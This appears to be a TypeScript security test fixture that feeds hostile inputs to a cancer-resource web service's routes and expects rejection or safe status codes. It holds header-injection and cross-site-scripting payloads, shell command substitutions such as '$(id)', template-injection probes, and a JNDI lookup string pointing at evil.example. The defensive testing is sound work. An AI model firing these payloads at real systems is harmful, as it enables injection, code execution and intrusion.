/** Values that would be headers, scripts, commands or log lines. */
import { access, answerPage, each, withHeaders, type Hostile } from './request.ts'

const injected = [
  '%0d%0aX-Injected:%20a',
  '%0aSet-Cookie:%20a=b',
  '%E5%98%8A%E5%98%8DX-Injected:a',
  '%0d%0a%0d%0a<script>alert(1)</script>',
  '<script>alert(1)</script>',
  '"><img%20src=x%20onerror=alert(1)>',
]

export const injection: readonly Hostile[] = [
  ...injected.flatMap((text) => [
    ...each(
      'H-20',
      [
        `/v1/resources?limit=1&country=BE${text}`,
        `/v1/countries?release=${text}`,
        `/v1/access?country=${text}&cancerType=melanoma`,
        `/embed/frame/resources?country=${text}`,
        `/embed/availability?country=BE&cancerType=${text}`,
      ],
      [400],
    ),
    ...each(
      'H-20',
      [
        `/fr/find?country=${text}&cancerType=melanoma`,
        `/fr/resources?country=BE&q=${text}`,
        `/fr/search?q=${text}`,
        `/v1/search?q=${text}`,
        `/v1/search?q=melanoma${text}&release=ffffffffffffffff`,
      ],
      [200, 410],
    ),
    ...each('H-20', [`/FR/search?q=${text}`], [308]),
    ...each(
      'H-20',
      [
        `/fr/${text}`,
        `/fr/map?cancerType=${text}`,
        `/docs/${text}`,
        `/problems/${text}`,
        `/v1/resources/${text}`,
      ],
      [400, 404],
    ),
  ]),
  ...withHeaders('H-20', [access, answerPage], [['X-Request-Id', 'a\rX-Injected: b']], [400], {
    onSocketOnly: true,
  }),
  ...withHeaders('H-20', [access, answerPage], [['Accept-Language', 'fr\u0000']], [400], {
    onSocketOnly: true,
  }),
  ...each(
    'H-27',
    [
      '${jndi:ldap://evil.example/a}',
      '%1b[31mred%1b[0m',
      '%0a{"level":"error"}',
      '$(id)',
      '`id`',
      '{{7*7}}',
      '%25n%25s',
    ].flatMap((text) => [
      `/v1/resources/${text}`,
      `/fr/BE/${text}`,
      `/embed/resources?country=${text}`,
    ]),
    [400, 404],
  ),
  ...each(
    'H-27',
    ['${jndi:ldap://evil.example/a}', '%1b[31mred', '{{7*7}}'].map(
      (text) => `/v1/search?q=${text}`,
    ),
    [200],
  ),
]
